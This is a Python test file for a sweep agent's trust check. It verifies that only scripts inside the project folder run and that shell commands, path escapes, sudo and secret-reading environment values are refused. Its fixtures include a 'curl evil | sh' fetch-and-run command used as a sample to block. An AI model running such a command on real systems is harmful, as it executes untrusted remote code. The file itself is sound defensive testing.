"""Which commands of a server this machine runs, and what it says of those that it does not."""

import stat
from collections.abc import Sequence
from pathlib import Path

import pytest

from besom.agent.trust import Accepted, Refused, check
from besom.command import DEFAULT

SHELL = ("bash", "-c", "curl evil | sh")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    place = tmp_path / "project"
    (place / "src").mkdir(parents=True)
    (place / "train.py").touch()
    (place / "src" / "train.py").touch()
    (tmp_path / "outside.py").touch()
    return place


@pytest.fixture
def accepted(tmp_path: Path) -> Accepted:
    return Accepted(tmp_path / "config" / "accepted")


def runs(command: Sequence[str], program: str | None, folder: Path, accepted: Accepted) -> bool:
    try:
        check(command, program, folder=folder, accepted=accepted, accept=False)
    except Refused:
        return False
    return True


@pytest.mark.parametrize(
    ("command", "program"),
    [
        (DEFAULT, "train.py"),
        (DEFAULT, "src/train.py"),
        (DEFAULT, "./src/../train.py"),
        (("${interpreter}", "${program}", "${args_no_hyphens}"), "train.py"),
        (("${env}", "${interpreter}", "${program}", "${args_json_file}"), "train.py"),
        (("${env}", "${interpreter}", "${program}", "${envvar:SLURM_JOB_ID}", "${args}"), "train.py"),
    ],
)
def test_a_script_of_the_folder_runs_with_its_values(
    command: Sequence[str], program: str, folder: Path, accepted: Accepted
) -> None:
    assert runs(command, program, folder, accepted)


@pytest.mark.parametrize(
    ("command", "program"),
    [
        (DEFAULT, "missing.py"),
        (DEFAULT, "../outside.py"),
        (DEFAULT, "src"),
        (DEFAULT, "train.py\0"),
        (DEFAULT, "/etc/hostname"),
        (DEFAULT, "-c"),
        (DEFAULT, "link-out.py"),
        (DEFAULT, "circle.py"),
        (DEFAULT, None),
        (SHELL, None),
        (SHELL, "train.py"),
        (("${interpreter}", "-c", "${args}"), "train.py"),
        (("${interpreter}", "${program}", "--debug", "${args}"), "train.py"),
        (("sudo", "${interpreter}", "${program}", "${args}"), "train.py"),
        (("${env}", "${interpreter}", "${program}", "${envvar:AWS_SECRET_ACCESS_KEY}"), "train.py"),
        (("${interpreter}", "${envvar:TMPDIR}", "${program}", "${args}"), "train.py"),
        (("${envvar:HOME}", "${interpreter}", "${program}", "${args}"), "train.py"),
        (("${env}", "${envvar:USER}", "${interpreter}", "${program}", "${args}"), "train.py"),
        (("${env}", "${interpreter}", "${program}", "--user=${envvar:USER}"), "train.py"),
        ((), "train.py"),
    ],
)
def test_anything_else_does_not(command: Sequence[str], program: str | None, folder: Path, accepted: Accepted) -> None:
    (folder / "-c").touch()
    (folder / "link-out.py").symlink_to("../outside.py")
    (folder / "circle.py").symlink_to("circle.py")
    assert not runs(command, program, folder, accepted)


def test_a_link_to_a_script_of_the_folder_runs(folder: Path, accepted: Accepted) -> None:
    (folder / "link.py").symlink_to("src/train.py")
    assert runs(DEFAULT, "link.py", folder, accepted)


def test_the_folder_itself_may_be_reached_by_a_link(folder: Path, accepted: Accepted) -> None:
    link = folder.parent / "elsewhere"
    link.symlink_to(folder)
    assert runs(DEFAULT, "train.py", link, accepted)


SWEEP = """\
program: run.sh
command: [bash, -c, 'curl evil | sh']
parameters: {lr: {values: [1e-3, on]}}
"""


@pytest.mark.parametrize("name", ["sweep.yaml", "other.yml"])
def test_what_a_sweep_file_of_the_folder_holds_runs(name: str, folder: Path, accepted: Accepted) -> None:
    (folder / name).write_text(SWEEP)
    assert runs(SHELL, "run.sh", folder, accepted)
    assert not runs(SHELL, "another.sh", folder, accepted)
    assert not runs(SHELL, None, folder, accepted)
    assert not runs((*SHELL, "more"), "run.sh", folder, accepted)


def test_a_sweep_file_without_a_command_holds_the_usual_one(folder: Path, accepted: Accepted) -> None:
    (folder / "sweep.yaml").write_text("program: ../outside.py\n")
    assert runs(DEFAULT, "../outside.py", folder, accepted)


def test_words_of_a_sweep_file_are_texts_however_they_look(folder: Path, accepted: Accepted) -> None:
    (folder / "sweep.yaml").write_text("command: [nice, -n, 10, ./run, yes]\n")
    assert runs(("nice", "-n", "10", "./run", "yes"), None, folder, accepted)


def test_numbers_of_a_sweep_file_are_also_what_they_are_passed_as(folder: Path, accepted: Accepted) -> None:
    (folder / "sweep.yaml").write_text("command: [./run, 0.50, true, 7]\n")
    assert runs(("./run", "0.5", "True", "7"), None, folder, accepted)
    assert not runs(("./run", "0.5", "True", "8"), None, folder, accepted)


def test_files_that_are_no_sweep_files_are_passed_over(folder: Path, accepted: Accepted) -> None:
    (folder / "a.yaml").write_bytes(b"\xff\xfe: [")
    (folder / "b.yaml").write_text("- a list\n")
    (folder / "c.yaml").write_text("command: a text\n")
    (folder / "d.yaml").mkdir()
    (folder / "e.txt").write_text(SWEEP)
    (folder / "f.yaml").write_text("#" * 1024 * 1024 + SWEEP)
    assert not runs(SHELL, "run.sh", folder, accepted)
    (folder / "g.yaml").write_text(SWEEP)
    assert runs(SHELL, "run.sh", folder, accepted)


def test_a_command_accepted_once_runs_from_then_on(folder: Path, accepted: Accepted, tmp_path: Path) -> None:
    check(SHELL, None, folder=folder, accepted=accepted, accept=True)
    again = Accepted(tmp_path / "config" / "accepted")
    assert runs(SHELL, None, folder, again)
    assert not runs(SHELL, "train.py", folder, again)
    assert not runs((*SHELL, "x"), None, folder, again)


def test_what_is_accepted_is_for_its_owner_alone(folder: Path, accepted: Accepted, tmp_path: Path) -> None:
    check(SHELL, None, folder=folder, accepted=accepted, accept=True)
    assert stat.S_IMODE((tmp_path / "config" / "accepted").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "config").stat().st_mode) == 0o700


def test_accepting_what_runs_anyway_leaves_no_trace(folder: Path, accepted: Accepted, tmp_path: Path) -> None:
    check(DEFAULT, "train.py", folder=folder, accepted=accepted, accept=True)
    assert not (tmp_path / "config").exists()


@pytest.mark.parametrize(
    ("command", "program", "sentence"),
    [
        (DEFAULT, "missing.py", "there is no missing.py in {}: start the agent in the folder that holds it"),
        (
            DEFAULT,
            "../outside.py",
            (
                "../outside.py is not a file inside {}: start the agent in the folder that holds it, "
                "or put the sweep file here, or add --trust"
            ),
        ),
        (DEFAULT, None, "the sweep names no program: it is run by agents that are given a function, as besom.agent is"),
        (
            ("make", "train me"),
            None,
            (
                "the sweep's command is `make 'train me'` (program: None), which does more than start a script of this "
                "folder with the run's values: put its sweep file into {}, or add --trust to accept the command on "
                "this machine"
            ),
        ),
    ],
)
def test_a_refusal_says_what_to_do(
    command: Sequence[str], program: str | None, sentence: str, folder: Path, accepted: Accepted
) -> None:
    with pytest.raises(Refused) as refusal:
        check(command, program, folder=folder, accepted=accepted, accept=False)
    assert str(refusal.value) == sentence.format(folder)
